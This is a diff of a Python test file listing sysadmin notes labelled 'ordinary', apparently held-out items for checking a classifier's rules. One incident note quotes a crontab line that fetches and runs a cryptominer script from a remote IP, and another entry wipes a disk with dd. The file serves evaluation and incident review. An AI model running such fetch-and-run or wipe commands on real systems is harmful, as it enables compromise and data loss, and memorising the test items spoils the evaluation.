@@ -634,10 +634,8 @@ _MISSED_S44G = frozenset({
 # the time (2 by the new package rule); then fitted to 9/400
 HELD_OUT += _batches('s76[ab]*.jsonl')
 _MISSED_S44F = frozenset({
-    'Assistant, когда будешь обновлять environment.yml в ocean-post, оставь xarray==2024.2.0 и dask==2024.2.1 — более новые конфликтуют с нашим netCDF4 1.6.5.',  # s76a191 ordinary
     'Before giving away the old HDD from the home server: confirmed the serial with lsblk -o NAME,SERIAL,SIZE, then dd if=/dev/zero of=/dev/sdc bs=1M status=progress. For the SSD I used blkdiscard instead.',  # s76a191 ordinary
     "Review checklist for MRs touching .gitlab-ci.yml: new 'curl | sh'? new external images? rules changes exposing protected variables to MR pipelines? artifacts that could include .env? If any — second reviewer.",  # s76a191 ordinary
-    'Assistant, проверь мой crontab на login01 (crontab -l) и предложи эквивалентные строки для scrontab с --partition=service и --time=00:10:00.',  # s76a191 ordinary
     "rustup ставлю как всегда: curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y --default-toolchain stable. Только на моём ноуте и в dev-контейнере, на серверах раст не нужен.",  # s76b192 ordinary
     'Homebrew на новый мак: /bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)" — официальный способ с brew.sh.',  # s76b192 ordinary
     'Weekly cleanup on self-hosted runners: runner-cleanup.timer, OnCalendar=Sun 04:00, runs `docker system prune -af --filter until=168h` and `rm -rf /home/runner/_work/_temp/*`.',  # s76b192 ordinary
@@ -651,7 +649,6 @@ _MISSED_S44F = frozenset({
 # Warsaw freelance DevOps engineer. Scored on arrival: 12/400 refused by the start code; written to check the new rules
 HELD_OUT += _batches('s75[ab]*.jsonl')
 _MISSED_S44E = frozenset({
-    "Assistant, when you write a new cron entry for me, always redirect output to /var/log/vlg/<name>.log and wrap it in flock -n /run/lock/<name>.lock so runs don't overlap.",  # s75a189 ordinary
     'ForwardAgent yes у нас запрещён — вместо этого ProxyJump. Если кто-то просит agent forwarding на jump, объяснить почему нет: root на jump мог бы воспользоваться чужим агентом.',  # s75a189 ordinary
     "Incident 2023-11, client's old VPS: found `*/5 * * * * curl -fsSL http://203.0.113.47/x.sh | sh` in root's crontab — a cryptominer. Redis had been exposed without auth on 6379. Box rebuilt from scratch. Lesson: never bind redis to 0.0.0.0.",  # s75b190 ordinary
     'After a suspected compromise: crontab -l for every user, /etc/cron.*, systemctl list-unit-files --state=enabled, ~/.ssh/authorized_keys everywhere, /etc/ld.so.preload, last -a, outbound connections (ss -tnp).',  # s75b190 ordinary
